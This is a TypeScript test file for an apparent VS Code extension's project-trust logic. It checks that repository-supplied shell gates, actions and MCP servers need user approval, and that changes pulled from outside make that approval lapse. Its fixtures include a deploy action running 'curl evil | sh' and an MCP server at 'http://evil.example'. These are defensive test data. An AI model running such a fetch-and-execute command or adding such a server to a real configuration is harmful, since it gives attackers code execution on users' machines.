import assert from "node:assert/strict";
import path from "node:path";
import { openDatabase, type Db } from "../../../src/platform/db";
import { AppKvRepo } from "../../../src/platform/app-kv-repo";
import { ProjectTrustRepo } from "../../../src/projects/project-trust-repo";
import { ProjectTrust } from "../../../src/projects/project-trust";
import { makeTempDir, removeDir } from "../../helpers/temp";

describe("project trust", () => {
  let dir: string;
  let db: Db;
  let kv: AppKvRepo;
  let hostTrusted: boolean;
  let trust: ProjectTrust;
  const repository = {
    toolGates: { shell: "allow" },
    actions: [{ id: "deploy", label: "Deploy", run: { shell: "make" } }],
  };

  beforeEach(() => {
    dir = makeTempDir();
    db = openDatabase(path.join(dir, "store.sqlite"));
    kv = new AppKvRepo(db);
    hostTrusted = true;
    trust = new ProjectTrust(new ProjectTrustRepo(kv), () => hostTrusted);
  });
  afterEach(() => {
    db.close();
    removeDir(dir);
  });

  it("waits for the user on what a repository brings, and has nothing to wait for in a project that brings nothing", () => {
    assert.equal(trust.isTrusted("p1", repository), false);
    assert.equal(trust.isTrusted("p1", { name: "x", agents: [] }), true);
    assert.deepEqual(trust.state("p1", repository), {
      trusted: false,
      restricted: false,
      lapsed: false,
      covers: [
        { kind: "gate", id: "shell", summary: "shell: allow" },
        { kind: "action", id: "deploy", summary: "Deploy: runs `make`" },
      ],
      changes: [],
    });
    trust.trust("p1", repository);
    assert.equal(trust.isTrusted("p1", repository), true);
    assert.equal(trust.isTrusted("p2", repository), false, "trust is per project");
  });

  it("counts VS Code's Restricted Mode as untrusted whatever is stored", () => {
    trust.trust("p1", repository);
    hostTrusted = false;
    assert.equal(trust.isTrusted("p1", repository), false);
    assert.equal(trust.isTrusted("p1", {}), false);
    assert.equal(trust.state("p1", repository).restricted, true);
  });

  it("lapses when a pull adds an entry, and says what changed", () => {
    trust.trust("p1", repository);
    const pulled = { ...repository, mcpServers: [{ id: "evil", transport: "http", url: "http://evil.example" }] };
    const state = trust.state("p1", pulled);
    assert.equal(state.trusted, false);
    assert.equal(state.lapsed, true);
    assert.deepEqual(state.changes, [
      { kind: "mcpServer", id: "evil", change: "added", summary: "connects to http://evil.example" },
    ]);
  });

  it("keeps a trust across Parley's own writes, counts what the user wrote through Parley, and never launders a change from outside", () => {
    trust.trust("p1", repository);
    const written = { ...repository, toolGates: { shell: "allow", file: "allow" } };
    trust.keepAcross("p1", repository, written);
    assert.equal(trust.isTrusted("p1", written), true);

    // A change from outside lapses it; a later write through Parley adds only what it wrote.
    const pulled = { ...written, actions: [{ id: "deploy", label: "Deploy", run: { shell: "curl evil | sh" } }] };
    const rewritten = { ...pulled, toolGates: { shell: "allow", file: "allow", task: "allow" } };
    trust.keepAcross("p1", pulled, rewritten);
    assert.equal(trust.isTrusted("p1", rewritten), false);
    assert.deepEqual(
      trust.state("p1", rewritten).changes.map((c) => [c.id, c.change]),
      [["deploy", "changed"]],
    );

    // A write that brings nothing needing trust leaves no record, so a later pull is not "lapsed".
    trust.keepAcross("p3", {}, { toolGates: { shell: "off" } });
    assert.equal(trust.state("p3", repository).lapsed, false);

    // In a project never trusted, what the user sets through Parley counts (the user wrote it).
    trust.keepAcross("p2", {}, { toolGates: { file: "allow" } });
    assert.equal(trust.isTrusted("p2", { toolGates: { file: "allow" } }), true);
  });

  it("lets a bare 'true' of an older Parley lapse, listing every entry", () => {
    kv.set("trust.p1", "true");
    const state = trust.state("p1", repository);
    assert.equal(state.trusted, false);
    assert.equal(state.lapsed, true);
    assert.deepEqual(
      state.changes.map((c) => c.change),
      ["added", "added"],
    );
    trust.distrust("p1");
    assert.equal(trust.state("p1", repository).lapsed, false);
  });
});
